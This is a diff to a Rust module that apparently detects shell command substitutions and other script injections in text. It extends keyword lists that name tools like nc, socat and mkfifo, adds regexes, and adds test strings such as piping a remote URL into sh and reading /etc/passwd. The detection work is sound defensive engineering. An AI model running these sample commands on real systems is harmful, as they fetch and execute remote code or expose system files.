@@ -69,15 +69,40 @@ static CALL: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 
-/// Commands that a shell runs inside `$(…)`, backticks after an assignment, and `<(…)`; and look-ups inside `${…}`.
+/// Commands that a shell runs wherever it substitutes them.
+const COMMANDS: &str = "awk|base64|bash|cat|chmod|chown|cp|curl|cut|date|dd|dig|echo|env|eval|exec|find|grep|head|host|\
+    hostname|id|ifconfig|kill|ls|mkfifo|mv|nc|ncat|node|nslookup|openssl|perl|php|ping|printenv|printf|ps|pwd|\
+    python[0-9.]*|rm|ruby|scp|sed|sh|sleep|ssh|sudo|tail|tee|touch|tr|uname|wget|whoami|xargs|zsh";
+
+/// Commands that count with an argument: their names alone may be variables of a template.
+const WITH_ARGUMENT: &str = "apk|apt|apt-get|ash|aws|az|brew|bun|bunx|busybox|bzip2|cargo|cmd|composer|crontab|csh|\
+    dash|deno|docker|doas|dotnet|fish|ftp|gcc|gcloud|gem|git|go|gpg|gunzip|gzip|helm|java|jq|ksh|kubectl|ln|lua|make|\
+    mkdir|mktemp|mount|mysql|nerdctl|netstat|nmap|nohup|npm|npx|od|pip[0-9.]*|pipx|pkill|pnpm|podman|poetry|\
+    powershell|psql|pwsh|redis-cli|rsync|sftp|shell|socat|sqlite3|su|systemctl|tar|telnet|terraform|tftp|timeout|\
+    tmux|tsx|unzip|uv|uvx|xxd|xz|yarn|yum|zcat";
+
+/// Commands inside `$(…)`, `<(…)` and backticks after an assignment, and look-ups inside `${…}`. A command that is in
+/// neither list counts by its path, by an argument that no prose has, or where its output is assigned.
 static SUBSTITUTION: LazyLock<Regex> = LazyLock::new(|| {
-    const COMMANDS: &str = "awk|base64|bash|cat|chmod|chown|cp|curl|cut|date|dd|dig|echo|env|eval|exec|find|grep|head|\
-        host|hostname|id|ifconfig|kill|ls|mkfifo|mv|nc|ncat|node|nslookup|openssl|perl|php|ping|printenv|printf|ps|pwd|\
-        python[0-9.]*|rm|ruby|scp|sed|sh|sleep|ssh|sudo|tail|tee|touch|tr|uname|wget|whoami|xargs|zsh";
+    const WORD: &str = "[a-z][a-z0-9._+-]+";
     compiled(&format!(
-        r"(?-u)(?:\$\(|<\(|[A-Za-z0-9_]=`)\s*(?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:[\s|;&<>)`]|\$\{{)
+        r#"(?-u)(?:\$\(|<\(|[A-Za-z0-9_]=`)\s*(?:
+            (?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:[\s|;&<>)`]|\$\{{)
+            |(?:{WITH_ARGUMENT})(?:\s+[^\s)`]|[|;&<>]))
+        |[$<]\(\s*(?:\.{{1,2}}|~)?/[A-Za-z0-9._/-]*[A-Za-z]
+        |\$\(\s*{WORD}\s+(?:--[a-z]|\.{{1,2}}/|~/|/[a-z0-9._-]+/|["']|\$[A-Za-z{{(]|https?://)
+        |[A-Za-z0-9_]=["']?\$\(\s*{WORD}\s+[^()\s]
         |\$\(\s*<\s*[a-z/.~]
-        |\$\{{jndi:"
+        |\$\{{jndi:"#
+    ))
+});
+
+/// A command between backticks that are the whole value, with an argument that no prose has, or led into a shell. It is
+/// a pattern of its own, as what it remembers of the beginning would multiply the states of the one above.
+static QUOTED: LazyLock<Regex> = LazyLock::new(|| {
+    compiled(&format!(
+        r"(?s-u)\A\s*(?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:\s.*)?(?:[|;>]|&&|\s-{{1,2}}[A-Za-z]|\s\S*://|\s[.~]{{0,2}}/)
+        |\|\s*(?:sudo\s+)?(?:/[a-z/]+/)?(?:ba|da|k|z)?sh(?:\s|\z)"
     ))
 });
 
@@ -109,11 +134,29 @@ pub(super) fn find(text: &str, marks: Marks) -> Option<&'static str> {
         () if url() => Some("a script URL"),
         () if marks.any(Marks::HASH_BANG) && holds(&SHEBANG) => Some("a shebang line"),
         () if marks.any(Marks::SHELL | Marks::ANGLE) && holds(&SUBSTITUTION) => Some("a command substitution"),
+        () if marks.any(Marks::SHELL) && is_substitution(text) => Some("a command substitution"),
         () if marks.any(Marks::DASH) && names_powershell(text) && holds(&ENCODED) => Some("a program in base64"),
         () if marks.any(Marks::PAREN) && holds(&CALL) => Some("code for an interpreter"),
         () if text.len() >= MIN_BINARY_BYTES && !text.contains(' ') && holds(&BINARY) => Some("a program in base64"),
         () => None,
     }
+}
+
+/// Whether the text is nothing but a command and its arguments inside `$(…)`, or a command in backticks. In prose `$(` is
+/// the price of something and backticks are Markdown.
+fn is_substitution(text: &str) -> bool {
+    let inside = |begin: &str, end: &str| text.trim().strip_prefix(begin)?.strip_suffix(end);
+    if let Some(quoted) = inside("`", "`") {
+        return !quoted.contains('`') && QUOTED.is_match(quoted.as_bytes());
+    }
+    let Some((command, arguments)) = inside("$(", ")").and_then(|line| line.trim().split_once(' ')) else {
+        return false;
+    };
+    let fits = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._+-".contains(&b);
+    command.len() > 1
+        && command.starts_with(|c: char| c.is_ascii_lowercase())
+        && command.bytes().all(fits)
+        && !arguments.contains(['(', ')'])
 }
 
 /// Told fast, as most texts do not.
@@ -208,6 +251,22 @@ mod tests {
             "<img src=\"a>b\" alt=x onerror=f()>",
             "<img src='x'onerror=f()>",
             "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3",
+            "name: $(./payload.sh)",
+            "$(~/x)",
+            "diff <(../one) x",
+            "runs $(docker run evil)",
+            "$(npx evil)",
+            "$(pip3 install x)",
+            "$(git clone x)",
+            "$(busybox sh)",
+            "k=`git status`",
+            "name $(frobnicate --all) end",
+            "name $(frobnicate https://evil.example) end",
+            "$(frobnicate run evil)",
+            "x=\"$(frobnicate run evil)\"",
+            "`curl https://a.example|sh`",
+            " `cat /etc/passwd` ",
+            "`npx evil | sh`",
         ] {
             assert!(text(script).is_some(), "{script}");
         }
@@ -229,6 +288,22 @@ mod tests {
             "#!/inbox",
             "PowerShell - Every command has 16characters1234",
             "powershell -File install.ps1",
+            "$(USD)",
+            "$(x)",
+            "$(git)",
+            "$(Build.SourceBranch)",
+            "costs $(about 5) per call",
+            "$(usd /call), $(see below)",
+            "the order is $(n log n)$",
+            "$(n log n)",
+            "$(see the (long) list)",
+            "$(document).ready",
+            "`npm install x`",
+            "`date`",
+            "`date` and `host`",
+            "run `curl https://a.example/install.sh|sh` to begin",
+            "path=`/v1/agents`",
+            "`ssh://git@a.example/x`",
         ] {
             assert_eq!(text(honest), None, "{honest}");
         }
@@ -236,7 +311,7 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        for pattern in [&MARKUP, &CALL, &SUBSTITUTION, &SHEBANG, &BINARY, &ENCODED] {
+        for pattern in [&MARKUP, &CALL, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED] {
             assert!(!pattern.is_match(b""), "{}", pattern.as_str());
         }
     }
